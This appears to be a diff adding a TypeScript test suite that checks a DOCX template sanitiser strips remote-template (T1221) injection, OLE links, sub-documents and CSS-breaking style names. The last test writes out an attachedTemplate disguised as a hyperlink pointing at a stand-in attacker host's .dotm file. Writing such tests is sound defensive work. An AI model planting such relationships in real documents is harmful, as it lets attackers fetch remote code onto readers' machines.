@@ -1,0 +1,95 @@
+// Templates are untrusted input: external relationships (T1221 attachedTemplate, OLE links, sub-documents, linked
+// images, alt chunks) never reach an output, no reference to a removed relationship dangles, style ids and font
+// names that would break the preview's CSS are renamed everywhere, and the result stays schema-valid. Real
+// templates: the built-in one and the corpus's, each with an attacker's additions.
+import { readFileSync } from 'node:fs';
+import { resolve } from 'node:path';
+import { strFromU8, unzipSync } from 'fflate';
+import { describe, expect, it } from 'vitest';
+import { convert, defaultTemplate, readTemplate, sanitizedBytes } from '../../server/convert/index.ts';
+import { cssFindings, EVIL, EVIL_FONT, EVIL_STYLE_ID, externalFindings, hostileTemplate, SAFE_LINK, withParts } from '../helpers/hostile-template.ts';
+import { validateDocx } from '../helpers/docx.ts';
+
+const CORPUS = resolve(import.meta.dirname, '../../../shared/corpus/templates');
+
+const bases: Array<[string, () => Uint8Array]> = [
+  ['the built-in template', () => defaultTemplate()],
+  ['apaquarto.docx (corpus)', () => new Uint8Array(readFileSync(resolve(CORPUS, 'apaquarto.docx')))],
+  ['office2007-academic-report.dotx (corpus)', () => new Uint8Array(readFileSync(resolve(CORPUS, 'office2007-academic-report.dotx')))],
+];
+
+describe.each(bases)('a hostile template built on %s', (_name, base) => {
+  const hostile = hostileTemplate(base());
+
+  it('the crafted template really carries the threats (the test would see them)', () => {
+    expect(externalFindings(hostile).join('\n')).toMatch(/attachedTemplate[\s\S]*oleObject|oleObject[\s\S]*attachedTemplate/);
+    expect(cssFindings(hostile).join('\n')).toContain(EVIL_STYLE_ID);
+  });
+
+  it('is read with a warning for each external relationship, style id and font name it had to change', () => {
+    const template = readTemplate(hostile);
+    const warnings = template.warnings.join('\n');
+    for (const kind of ['attachedTemplate', 'oleObject', 'subDocument', 'image', 'aFChunk', 'frame']) expect(warnings).toContain(`template_external_removed: ${kind}`);
+    expect(warnings).toContain(`${EVIL}/t1221.dotm`);
+    expect(warnings).not.toContain('hyperlink');
+    expect(warnings).toContain(`template_style_renamed: style id ${JSON.stringify(EVIL_STYLE_ID)}`);
+    expect(warnings).toContain(`template_font_renamed: font ${JSON.stringify(EVIL_FONT)}`);
+  });
+
+  it('the stored (sanitised) template has no external relationship but the hyperlink, nothing dangling, no CSS-breaking name, and is schema-valid', async () => {
+    const clean = sanitizedBytes(hostile, readTemplate(hostile));
+    expect(externalFindings(clean)).toEqual([]);
+    expect(cssFindings(clean)).toEqual([]);
+    expect(strFromU8(unzipSync(clean)['word/_rels/document.xml.rels'] ?? new Uint8Array())).toContain(SAFE_LINK);
+    // Reading the clean template again changes nothing more.
+    expect(readTemplate(clean).warnings).toEqual([]);
+    const report = await validateDocx(clean);
+    expect(report.ok, report.report).toBe(true);
+  });
+
+  it('every output made with it is clean too, the renamed style still applied and the hyperlink kept', async () => {
+    const result = convert({ markdown: '# Title\n\nBody with a [link](https://example.org).\n', template: hostile, created: new Date('2026-01-01T00:00:00Z') });
+    expect(externalFindings(result.docx)).toEqual([]);
+    expect(cssFindings(result.docx)).toEqual([]);
+    const document = strFromU8(unzipSync(result.docx)['word/document.xml'] ?? new Uint8Array());
+    expect(document).not.toContain('attachedTemplate');
+    expect(document).not.toContain('subDoc');
+    expect(document).not.toContain('OLEObject');
+    expect(document).toContain('w:val="A__body_display_none__b"');
+    const settings = strFromU8(unzipSync(result.docx)['word/settings.xml'] ?? new Uint8Array());
+    expect(settings).not.toContain('attachedTemplate');
+    expect(strFromU8(unzipSync(result.docx)['word/webSettings.xml'] ?? new Uint8Array())).not.toContain('w:frame>');
+    const report = await validateDocx(result.docx);
+    expect(report.ok, report.report).toBe(true);
+  });
+});
+
+describe('clean real templates', () => {
+  for (const file of ['apaquarto.docx', 'gongwen-template-lite.dotx', 'ntu-dissertation-template.docx', 'office2007-academic-report.dotx', 'officedown-template-hdr-ftr.docx']) {
+    it(`${file} is read without a warning and stored byte for byte as uploaded`, () => {
+      const bytes = new Uint8Array(readFileSync(resolve(CORPUS, file)));
+      const template = readTemplate(bytes);
+      expect(template.warnings).toEqual([]);
+      expect(sanitizedBytes(bytes, template)).toBe(bytes);
+    });
+  }
+});
+
+describe('a remote template disguised as a hyperlink', () => {
+  it('w:attachedTemplate pointing at an external relationship typed "hyperlink" is removed (hyperlinks are kept only for links)', () => {
+    const base = defaultTemplate();
+    const parts = unzipSync(base);
+    const settings = strFromU8(parts['word/settings.xml'] ?? new Uint8Array());
+    const open = settings.indexOf('>', settings.indexOf('<w:settings')) + 1;
+    const disguised = withParts(base, {
+      'word/_rels/settings.xml.rels':
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
+        `<Relationship Id="rIdLink" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="${EVIL}/t1221.dotm" TargetMode="External"/></Relationships>`,
+      'word/settings.xml': `${settings.slice(0, open)}<w:attachedTemplate r:id="rIdLink"/>${settings.slice(open)}`,
+    });
+    const template = readTemplate(disguised);
+    expect(template.warnings.join('\n')).toContain('template_external_removed: attachedTemplate using a hyperlink relationship');
+    const output = convert({ markdown: 'x\n', template: disguised, created: new Date('2026-01-01T00:00:00Z') });
+    expect(strFromU8(unzipSync(output.docx)['word/settings.xml'] ?? new Uint8Array())).not.toContain('attachedTemplate');
+  });
+});
